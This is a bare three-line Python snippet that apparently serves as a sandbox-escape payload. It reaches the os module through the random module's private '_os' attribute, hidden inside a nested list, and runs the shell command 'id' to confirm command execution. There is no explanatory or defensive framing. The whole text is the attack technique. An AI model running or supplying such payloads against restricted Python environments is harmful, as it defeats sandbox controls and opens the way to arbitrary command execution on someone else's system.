import random
box = [[random]]
box[0][0]._os.system("id")
